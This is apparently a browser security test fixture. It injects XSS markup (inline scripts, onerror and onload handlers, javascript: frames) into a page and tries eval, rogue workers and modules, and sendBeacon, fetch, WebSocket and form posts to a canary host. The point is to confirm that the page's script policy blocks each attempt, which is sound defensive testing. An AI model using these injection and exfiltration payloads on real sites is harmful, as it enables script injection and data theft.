/** What somebody would try who got a word into our page: as markup in its source, and as script at work in it. */

import type { ScriptPolicy } from '../../web/install/worker-address.ts'

declare global {
  /** What ran that should not have, by name. */
  var hits: string[] | undefined
}

const HIT = (name: string, where = 'globalThis'): string =>
  `${where}.hits=[...(${where}.hits??[]),'${name}']`

/** Markup, as a server with a hole would put it into the page. */
export const markupOf = (canary: string): string => `
<base href="${canary}/base/">
<script>${HIT('inline script')}</script>
<script src="${canary}/script.js"></script>
<link rel="stylesheet" href="${canary}/styles.css">
<style>html { --inline-style: 1 }</style>
<img src="nothing" onerror="${HIT('inline handler')}" alt="">
<img src="${canary}/picture.png" alt="">
<svg onload="${HIT('svg handler')}"></svg>
<iframe src="javascript:${HIT('frame', 'parent')}" title="a"></iframe>
<iframe src="${canary}/frame.html" title="b"></iframe>
<object data="${canary}/object.swf"></object>
<embed src="${canary}/embed.swf">
<video src="${canary}/film.mp4"></video>`

/** Runs in the page, with what the browser gives any script there; what got through, by name. */
export const breakIn = async (canary: string): Promise<readonly string[]> => {
  const through: string[] = []
  const hit = (name: string): string =>
    `globalThis.hits=[...(globalThis.hits??[]),${JSON.stringify(name)}]`
  const pause = (ms: number) =>
    new Promise((resolve) => {
      setTimeout(resolve, ms)
    })
  const attempt = async (name: string, act: () => unknown): Promise<void> => {
    try {
      await act()
      through.push(name)
    } catch {
      // Refused, as it should be.
    }
  }
  const put = (tag: string, text: string): void => {
    const element = document.createElement(tag)
    element.append(document.createTextNode(text))
    document.body.append(element)
  }
  // What a debugger evaluates may evaluate text itself; what a timer starts may not.
  await pause(0)
  // oxlint-disable-next-line no-eval -- that is what is tried
  await attempt('eval', () => (0, eval)(hit('eval')))
  // oxlint-disable-next-line typescript/no-implied-eval -- that is what is tried
  await attempt('Function', () => new Function(hit('Function'))())
  await attempt('a timer of text', () => Reflect.apply(setTimeout, globalThis, [hit('a timer'), 0]))
  await attempt('innerHTML', () => {
    document.createElement('p').innerHTML = `<img src="x" onerror='${hit('innerHTML')}'>`
  })
  await attempt('document.write', () => document.write('<p>written</p>'))
  await attempt('a page of text', () => new DOMParser().parseFromString('<p></p>', 'text/html'))
  await attempt('a frame of text', () => {
    document.createElement('iframe').srcdoc = '<p></p>'
  })
  await attempt('a handler of text', () => {
    document.createElement('img').setAttribute('onerror', hit('a handler'))
  })
  await attempt('a script by address', () => {
    document.createElement('script').src = '/worker.js'
  })
  await attempt('another worker', () => navigator.serviceWorker.register('/assets/x.js'))
  await attempt('a worker of text', () => {
    const worker = new Worker(URL.createObjectURL(new Blob([hit('a worker')])))
    return new Promise((resolve, reject) => {
      worker.addEventListener('error', reject)
      setTimeout(resolve, 500)
    })
  })
  await attempt('a module of text', () => import(`data:text/javascript,${hit('a module')}`))
  await attempt('a foreign module', () => import(`${canary}/module.js`))
  const lax: ScriptPolicy = { createScriptURL: (address) => address }
  const makePolicy = (name: string) => {
    if (globalThis.trustedTypes === undefined) throw new Error('there is no such thing here')
    globalThis.trustedTypes.createPolicy(name, lax)
  }
  await attempt('a policy of another name', () => makePolicy('other'))
  await attempt('a second policy', () => makePolicy('chat-sync'))
  put('script', hit('inline script made'))
  put('style', 'html { --inline-style: 1 }')
  await attempt('fetch', () => fetch(`${canary}/fetch`))
  navigator.sendBeacon(`${canary}/beacon`, 'secret')
  await attempt('a WebSocket', () => {
    const socket = new WebSocket(`${canary.replace('http', 'ws')}/socket`)
    return new Promise((resolve, reject) => {
      socket.addEventListener('open', resolve)
      socket.addEventListener('error', reject)
    })
  })
  await attempt('an event stream', () => {
    const stream = new EventSource(`${canary}/stream`)
    return new Promise((resolve, reject) => {
      stream.addEventListener('open', resolve)
      stream.addEventListener('error', reject)
    })
  })
  await attempt('a picture over HTTP', () => {
    const picture = new Image()
    picture.src = `${canary}/picture-made.png`
    return picture.decode()
  })
  await attempt('a form', () => {
    const form = document.createElement('form')
    const frame = document.createElement('iframe')
    frame.name = 'target'
    form.target = 'target'
    form.method = 'post'
    form.action = `${canary}/form`
    document.body.append(frame, form)
    form.submit()
    throw new Error('the canary tells whether it went')
  })
  await attempt('an address that is a script', () => {
    const link = document.createElement('a')
    link.href = `javascript:void(${hit('an address')})`
    document.body.append(link)
    link.click()
    throw new Error('a hit tells whether it ran')
  })
  await pause(300)
  const style = getComputedStyle(document.documentElement)
  for (const name of ['--hit', '--inline-style'])
    if (style.getPropertyValue(name) !== '') through.push(`style ${name}`)
  return [...through, ...(globalThis.hits ?? []).map((name) => `ran: ${name}`)]
}
